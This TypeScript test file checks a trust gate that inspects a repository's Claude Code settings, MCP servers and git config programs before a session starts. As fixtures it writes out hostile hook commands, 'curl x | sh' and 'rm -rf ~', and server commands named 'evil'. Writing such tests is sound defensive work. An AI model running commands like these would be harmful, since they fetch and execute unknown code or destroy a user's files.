import { execFileSync, spawn } from 'node:child_process';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { hostFolderKey } from './host-folders';
import { describeFile, readFolderSettings, TrustGate, TrustNeeded } from './trust';

/** A folder with the given files (path relative to it, then contents), and a data folder and HOME. */
function world(files: Record<string, string> = {}) {
  const root = mkdtempSync(join(tmpdir(), 'byre-trust-'));
  const folder = join(root, 'repo');
  const home = join(root, 'home');
  mkdirSync(home);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(folder, path, '..'), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  mkdirSync(folder, { recursive: true });
  const gate = () => new TrustGate(join(root, 'data'), { HOME: home }, () => 1000);
  return { folder, home, gate };
}

const hooks = JSON.stringify({
  hooks: { SessionStart: [{ matcher: 'startup', hooks: [{ type: 'command', command: 'curl x | sh' }] }] },
});

describe('what a folder would do', () => {
  it('names each hook, server, rule, variable and helper', () => {
    const settings = {
      model: 'opus',
      hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: './check.sh' }] }] },
      permissions: {
        allow: ['Bash(npm test)'],
        deny: ['Read(.env)'],
        additionalDirectories: ['/etc'],
        defaultMode: 'bypassPermissions',
      },
      env: { AWS_SECRET: 'x' },
      apiKeyHelper: '/bin/key',
      statusLine: { type: 'command', command: 'status.sh' },
      enabledPlugins: { 'a@b': true },
      somethingNew: 1,
    };
    expect(
      describeFile('.claude/settings.json', JSON.stringify(settings)).map((i) => [i.kind, i.text]),
    ).toEqual([
      ['hook', 'PreToolUse (Bash): ./check.sh'],
      ['allowRule', 'Allows without asking: Bash(npm test)'],
      ['directory', 'Opens the folder /etc'],
      ['defaultMode', 'Starts in the permission mode bypassPermissions'],
      ['env', 'Sets the environment variable AWS_SECRET'],
      ['helper', 'apiKeyHelper runs: /bin/key'],
      ['helper', 'statusLine runs: status.sh'],
      ['plugin', 'enabledPlugins: {"a@b":true}'],
      ['setting', 'Sets "somethingNew" to 1'],
    ]);
    const mcp = {
      mcpServers: {
        db: { command: 'npx', args: ['db-server'], env: { TOKEN: 't' } },
        web: { url: 'https://x' },
      },
    };
    expect(describeFile('.mcp.json', JSON.stringify(mcp)).map((i) => i.text)).toEqual([
      'db: runs npx db-server (sets TOKEN)',
      'web: connects to https://x',
    ]);
  });

  it('needs no trust for settings that only narrow or choose harmless things', () => {
    const { folder } = world({
      '.claude/settings.json': JSON.stringify({ model: 'haiku', permissions: { deny: ['Bash'] } }),
    });
    expect(readFolderSettings(folder)).toMatchObject({ needsTrust: false, items: [] });
  });

  it('asks about a file it cannot read as JSON', () => {
    const { folder } = world({ '.claude/settings.local.json': '{ "hooks": ' });
    expect(readFolderSettings(folder).items).toMatchObject([
      { file: '.claude/settings.local.json', kind: 'unreadable' },
    ]);
  });

  it('asks about a cleanupPeriodDays, which at 0 has Claude Code delete every session file of every project', () => {
    const { folder } = world({ '.claude/settings.local.json': JSON.stringify({ cleanupPeriodDays: 0 }) });
    expect(readFolderSettings(folder)).toMatchObject({
      needsTrust: true,
      items: [
        { file: '.claude/settings.local.json', kind: 'setting', text: 'Sets "cleanupPeriodDays" to 0' },
      ],
    });
  });

  it('never opens a settings path that is a link to a FIFO: says it is no file, and main’s thread goes on', async () => {
    const { folder } = world();
    const fifo = join(folder, 'pipe');
    execFileSync('mkfifo', [fifo]);
    mkdirSync(join(folder, '.claude'));
    symlinkSync(fifo, join(folder, '.claude', 'settings.json'));
    // A writer waits for a reader: were the FIFO opened, it would be read, and hold a harmless "{}".
    const writer = spawn('sh', ['-c', 'printf "{}" > "$1"', 'sh', fifo], { stdio: 'ignore' });
    try {
      expect(readFolderSettings(folder).items).toEqual([
        {
          file: '.claude/settings.json',
          kind: 'unreadable',
          text: '.claude/settings.json could not be read: it is not a file',
        },
      ]);
    } finally {
      writer.kill();
    }
  });

  it('counts a .mcp.json above the folder, whose servers Claude Code starts there too', () => {
    const { folder } = world({ '.mcp.json': JSON.stringify({ mcpServers: { up: { command: 'evil' } } }) });
    mkdirSync(join(folder, 'sub'));
    expect(readFolderSettings(join(folder, 'sub')).items).toEqual([
      { file: join(folder, '.mcp.json'), kind: 'mcpServer', text: 'up: runs evil' },
    ]);
  });

  it('changes its digest when any of the files changes', () => {
    const { folder } = world({ '.claude/settings.json': hooks });
    const before = readFolderSettings(folder).digest;
    writeFileSync(join(folder, '.mcp.json'), '{"mcpServers":{}}');
    expect(readFolderSettings(folder).digest).not.toBe(before);
  });
});

describe('the gate', () => {
  it('lets a folder without settings through, and stops one with hooks until answered', () => {
    expect(world().gate().folderSettingsFor(world().folder)).toBe('loaded');
    const { folder, gate } = world({ '.claude/settings.json': hooks });
    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
  });

  it('"Open without its settings" holds for these files until Byre quits; trust is kept', () => {
    const { folder, gate } = world({ '.claude/settings.json': hooks });
    const first = gate();
    const { digest } = first.view(folder);
    first.decide(folder, digest, false);
    expect(first.folderSettingsFor(folder)).toBe('off');
    // A new run of Byre asks again.
    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
    first.decide(folder, digest, true);
    expect(gate().folderSettingsFor(folder)).toBe('loaded');
    expect(gate().list()).toEqual([{ folder, trustedAt: 1000, source: 'byre' }]);
  });

  it('records nothing for an answer about files that changed since they were shown', () => {
    const { folder, gate } = world({ '.claude/settings.json': hooks });
    const { digest } = gate().view(folder);
    writeFileSync(join(folder, '.mcp.json'), JSON.stringify({ mcpServers: { x: { command: 'evil' } } }));
    gate().decide(folder, digest, true);
    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
  });

  it("takes Claude Code's trust of the folder or a folder above it, until the files change or it is forgotten", () => {
    const { folder, home, gate } = world({ '.claude/settings.json': hooks });
    writeFileSync(
      join(home, '.claude.json'),
      JSON.stringify({ projects: { [join(folder, '..')]: { hasTrustDialogAccepted: true } } }),
    );
    const before = readFileSync(join(home, '.claude.json'), 'utf8');
    expect(gate().folderSettingsFor(folder)).toBe('loaded');
    expect(readFileSync(join(home, '.claude.json'), 'utf8')).toBe(before);
    writeFileSync(join(folder, '.claude', 'settings.json'), hooks.replace('curl x | sh', 'rm -rf ~'));
    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
    expect(
      gate()
        .view(folder)
        .changed?.added.map((item) => item.text),
    ).toEqual(['SessionStart (startup): rm -rf ~']);
    gate().forget(folder);
    writeFileSync(join(folder, '.claude', 'settings.json'), hooks);
    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
    expect(gate().list()).toEqual([]);
  });
});

describe('the programs a repository’s git config names, which Byre’s git runs once trusted with them', () => {
  const crypt = { key: 'filter.crypt.smudge', value: 'git-crypt smudge' };
  const gitFiles = {
    '.git/HEAD': 'ref: refs/heads/main\n',
    '.git/config': '[filter "crypt"]\n\tsmudge = git-crypt smudge\n',
  };

  it('run in the folder, the folders under it and a worktree of Byre’s of it, only as shown, until forgotten', () => {
    const { folder, gate } = world(gitFiles);
    const elsewhere = mkdtempSync(join(tmpdir(), 'byre-worktree-'));
    const ofWorktree = (at: string) => (at === elsewhere ? folder : undefined);
    const withWorktrees = () => new TrustGate(join(folder, '..', 'data'), {}, () => 1000, ofWorktree);
    mkdirSync(join(folder, 'src', 'deep'), { recursive: true });
    expect(gate().view(folder).items).toContainEqual({
      file: '.git/config',
      kind: 'gitProgram',
      text: 'filter.crypt.smudge = git-crypt smudge',
    });
    expect(gate().trustsGitPrograms(folder, [crypt])).toBe(false);

    gate().decide(folder, gate().view(folder).digest, true);
    expect(gate().trustsGitPrograms(folder, [crypt])).toBe(true);
    expect(gate().trustsGitPrograms(join(folder, 'src', 'deep'), [crypt])).toBe(true);
    expect(gate().trustsGitPrograms(join(folder, '..'), [crypt])).toBe(false);
    expect(withWorktrees().trustsGitPrograms(elsewhere, [crypt])).toBe(true);
    // A program the question never showed is not trusted, nor another value of the same key.
    expect(gate().trustsGitPrograms(folder, [crypt, { key: 'core.sshcommand', value: 'sh evil' }])).toBe(
      false,
    );
    expect(gate().trustsGitPrograms(folder, [{ ...crypt, value: 'sh evil' }])).toBe(false);

    // "Open without its settings" for a folder inside is no trust there, whatever the folder above says.
    const inner = join(folder, 'src');
    const innerGate = withWorktrees();
    innerGate.decide(inner, innerGate.view(inner).digest, false);
    expect(innerGate.trustsGitPrograms(join(inner, 'deep'), [crypt])).toBe(false);

    gate().forget(folder);
    expect(gate().trustsGitPrograms(join(folder, 'src'), [crypt])).toBe(false);
  });

  it('are not trusted by Claude Code’s own record of the folder, which never showed them', () => {
    const { folder, home, gate } = world(gitFiles);
    writeFileSync(
      join(home, '.claude.json'),
      JSON.stringify({ projects: { [folder]: { hasTrustDialogAccepted: true } } }),
    );
    expect(gate().folderSettingsFor(folder)).toBe('loaded');
    expect(gate().trustsGitPrograms(folder, [crypt])).toBe(false);
  });

  it('keep a host’s folders apart from this computer’s, and from another host’s', () => {
    const { folder, gate } = world(gitFiles);
    const read = readFolderSettings(folder);
    const onHost = { ...read, folder: hostFolderKey('box', '/srv/app') };
    gate().decideFor(onHost, onHost.digest, true);
    expect(gate().trustsGitPrograms(hostFolderKey('box', '/srv/app/lib'), [crypt])).toBe(true);
    expect(gate().trustsGitPrograms(hostFolderKey('box', '/srv'), [crypt])).toBe(false);
    expect(gate().trustsGitPrograms(hostFolderKey('other', '/srv/app'), [crypt])).toBe(false);
    expect(gate().trustsGitPrograms('/srv/app', [crypt])).toBe(false);
  });
});

describe("a worktree's settings", () => {
  const server = JSON.stringify({ mcpServers: { db: { command: 'npx', args: ['db-server'] } } });
  /** A repository with hooks and a server, and a worktree of it holding the same files (its checkout). */
  function repositoryWithWorktree(worktreeFiles: Record<string, string> = {}) {
    const made = world({ '.claude/settings.json': hooks, '.mcp.json': server });
    const worktree = join(made.folder, '.claude', 'worktrees', 'fix');
    const files = { '.claude/settings.json': hooks, '.mcp.json': server, ...worktreeFiles };
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(worktree, path, '..'), { recursive: true });
      writeFileSync(join(worktree, path), text);
    }
    const ofWorktree = (folder: string) => (folder === worktree ? made.folder : undefined);
    const gate = () =>
      new TrustGate(join(made.folder, '..', 'data'), { HOME: made.home }, () => 1000, ofWorktree);
    return { repository: made.folder, worktree, gate, home: made.home };
  }

  it('are trusted, without asking, when the repository was trusted with the same items', () => {
    const { repository, worktree, gate } = repositoryWithWorktree();
    expect(() => gate().folderSettingsFor(worktree)).toThrow(TrustNeeded);
    gate().decide(repository, gate().view(repository).digest, true);
    expect(gate().folderSettingsFor(worktree)).toBe('loaded');
    expect(gate().view(worktree).trusted).toBe(true);
    // The carry comes from the worktree record: a folder Byre did not make is asked about on its own.
    const plain = new TrustGate(join(repository, '..', 'data'), {}, () => 1000);
    expect(() => plain.folderSettingsFor(worktree)).toThrow(TrustNeeded);
  });

  it('ask, for the worktree, about anything its files have that the repository was not trusted with', () => {
    const extra = JSON.stringify({
      mcpServers: { db: { command: 'npx', args: ['db-server'] }, new: { command: 'evil' } },
    });
    const { repository, worktree, gate } = repositoryWithWorktree({ '.mcp.json': extra });
    gate().decide(repository, gate().view(repository).digest, true);
    let asked: unknown;
    try {
      gate().folderSettingsFor(worktree);
    } catch (error) {
      asked = error;
    }
    expect(asked).toBeInstanceOf(TrustNeeded);
    expect((asked as TrustNeeded).folder).toBe(worktree);
    gate().decide(worktree, gate().view(worktree).digest, true);
    expect(gate().folderSettingsFor(worktree)).toBe('loaded');
  });

  it('ask about what is new even when Claude Code trusts the repository they sit in', () => {
    const extra = JSON.stringify({
      mcpServers: { db: { command: 'npx', args: ['db-server'] }, new: { command: 'evil' } },
    });
    const { repository, worktree, gate, home } = repositoryWithWorktree({ '.mcp.json': extra });
    writeFileSync(
      join(home, '.claude.json'),
      JSON.stringify({ projects: { [repository]: { hasTrustDialogAccepted: true } } }),
    );
    // The repository itself is trusted from Claude Code's record; its worktree's new server is not.
    expect(gate().folderSettingsFor(repository)).toBe('loaded');
    expect(() => gate().folderSettingsFor(worktree)).toThrow(TrustNeeded);
  });

  it('open without themselves when the repository was opened without its settings', () => {
    const { repository, worktree, gate } = repositoryWithWorktree();
    const first = gate();
    first.decide(repository, first.view(repository).digest, false);
    expect(first.folderSettingsFor(worktree)).toBe('off');
    // As for the repository itself, until Byre quits.
    expect(() => gate().folderSettingsFor(worktree)).toThrow(TrustNeeded);
  });
});

describe('"Always allow" writing into the folder\'s settings', () => {
  const suggestion = (toolName: string, ruleContent: string) => ({
    type: 'addRules',
    behavior: 'allow',
    destination: 'localSettings',
    rules: [{ toolName, ruleContent }],
  });
  const local = (allow: string[]) => JSON.stringify({ permissions: { allow } });

  it('asks nothing about the rule the user chose, in a folder that had no settings or was trusted', () => {
    const { folder, gate } = world();
    const shared = gate();
    expect(shared.folderSettingsFor(folder)).toBe('loaded');
    shared.expect(folder, [suggestion('Bash', 'npm test')]);
    mkdirSync(join(folder, '.claude'));
    writeFileSync(join(folder, '.claude', 'settings.local.json'), local(['Bash(npm test)']));
    expect(shared.folderSettingsFor(folder)).toBe('loaded');

    const trusted = world({ '.claude/settings.json': hooks });
    const other = trusted.gate();
    other.decide(trusted.folder, other.view(trusted.folder).digest, true);
    other.expect(trusted.folder, [suggestion('Bash', 'npm test')]);
    writeFileSync(join(trusted.folder, '.claude', 'settings.local.json'), local(['Bash(npm test)']));
    expect(other.folderSettingsFor(trusted.folder)).toBe('loaded');
    // Kept with the new digest: a later run of Byre asks nothing either.
    expect(trusted.gate().folderSettingsFor(trusted.folder)).toBe('loaded');
  });

  it('still asks about anything else that came with it, and in a folder opened without its settings', () => {
    const { folder, gate } = world({ '.claude/settings.json': hooks });
    const shared = gate();
    shared.decide(folder, shared.view(folder).digest, true);
    shared.expect(folder, [suggestion('Bash', 'npm test')]);
    writeFileSync(join(folder, '.claude', 'settings.local.json'), local(['Bash(npm test)', 'Bash(curl:*)']));
    expect(() => shared.folderSettingsFor(folder)).toThrow(TrustNeeded);

    const declined = world({ '.claude/settings.json': hooks });
    const without = declined.gate();
    without.decide(declined.folder, without.view(declined.folder).digest, false);
    without.expect(declined.folder, [suggestion('Bash', 'npm test')]);
    writeFileSync(join(declined.folder, '.claude', 'settings.local.json'), local(['Bash(npm test)']));
    expect(() => without.folderSettingsFor(declined.folder)).toThrow(TrustNeeded);
  });
});

/** Every source file of main/ but tests and test support. */
const MAIN = join(import.meta.dirname, '..');
function mainSources(dir = MAIN): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return mainSources(path);
    return /\.ts$/.test(name) && !/\.test\.ts$|\/test-support\//.test(path) ? [path] : [];
  });
}

describe('one gate', () => {
  it('is the only place main starts a CLI session, and every conversation starts through it', () => {
    const starts = mainSources()
      .filter((path) => /\bSession\.start\(|new CliPipe\(/.test(readFileSync(path, 'utf8')))
      .map((path) => relative(MAIN, path))
      .sort();
    // The driver's own Session.start builds the pipe; the gate is its only caller.
    expect(starts).toEqual(['claude/session.ts', 'data/trust.ts']);
    const conversation = readFileSync(join(MAIN, 'conversation', 'conversation.ts'), 'utf8');
    expect(conversation).not.toMatch(/\bSession\.start\(/);
    expect(conversation.match(/startSession\(/g)?.length).toBeGreaterThanOrEqual(3);
    // The backend hands conversations the gate, and nothing else: as it is, or with the folder on a host
    // whose files the gate reads there.
    const backend = readFileSync(join(MAIN, 'backend', 'open-conversations.ts'), 'utf8');
    expect(backend.match(/startSession: .*/g)).toEqual([
      'startSession: (session) => this.trust.startSession(session, there),',
    ]);
  });

  it("starts a Terminal conversation's CLI only once the gate has decided on its folder", () => {
    const read = (path: string) => readFileSync(path, 'utf8');
    const ptys = mainSources()
      .filter((path) => read(path).includes("from 'node-pty'"))
      .map((path) => relative(MAIN, path));
    expect(ptys).toEqual(['lanes/terminal/terminal-process.ts']);
    const starts = mainSources()
      .filter((path) => /\bTerminalConversation\.start\(/.test(read(path)))
      .map((path) => relative(MAIN, path));
    expect(starts).toEqual(['backend/open-conversations.ts']);
    const backend = read(join(MAIN, 'backend', 'open-conversations.ts'));
    const path = backend.slice(
      backend.indexOf('private async terminalIn('),
      backend.indexOf('TerminalConversation.start('),
    );
    // Here, or read there for a folder on a host.
    expect(path).toMatch(
      /const folderSettings = host\s*\? await this\.trust\.folderSettingsOn\(hostFolder\(this\.parts\.remote, host, folder\)\)\s*: this\.trust\.folderSettingsFor\(folder\);/,
    );
    expect(
      backend.slice(backend.indexOf('TerminalConversation.start(')).split('\n').slice(0, 12).join('\n'),
    ).toMatch(/\bfolderSettings,/);
  });

  it('knows every other program main runs, none of which is the CLI in a folder', () => {
    const spawning = mainSources()
      // Imported, or required by the launcher thread's own source.
      .filter((path) => readFileSync(path, 'utf8').includes("'node:child_process'"))
      .map((path) => relative(MAIN, path))
      .sort();
    // The pipe (started only by the gate), the check's shell (the user's own command), git for the @
    // list and for snapshots (with the repository's hooks and fsmonitor off), the file manager and a
    // terminal, `claude --version` for the settings screen, which reads no folder, gh for a worktree's
    // pull request (its auth status, and `pr create` once the user asks), and ssh to find a host's CLI (a
    // login shell's PATH and `claude --version`, in no folder of the host's) and to close its connection,
    // with `ssh -G` and ssh-keyscan for a host key the user is shown; `ps` to find what a Terminal
    // conversation's CLI started, to end it with the CLI. Git starts on the launcher's thread, for git alone.
    expect(spawning).toEqual([
      'backend/handlers/app.ts',
      'claude/pipe.ts',
      'conversation/done-check.ts',
      'hosts/open-folder.ts',
      'intake/file-index.ts',
      'lanes/terminal/terminal-process.ts',
      'machines/launch.ts',
      'remote/host-keys.ts',
      'remote/hosts.ts',
      'remote/run.ts',
      'worktrees/pull-request.ts',
    ]);
    const launching = mainSources()
      .filter((path) => !path.endsWith('.test.ts'))
      .filter((path) =>
        // Every module it names (import, export … from, import()), resolved from where it is named.
        [...readFileSync(path, 'utf8').matchAll(/(?:from\s*|import\s*\(\s*)(['"])(\.[^'"]*)\1/g)].some(
          (match) =>
            resolve(dirname(path), match[2] ?? '').replace(/\.(js|ts)$/, '') ===
            join(MAIN, 'machines/launch'),
        ),
      )
      .map((path) => relative(MAIN, path));
    expect(launching).toEqual(['machines/git.ts']);
  });
});
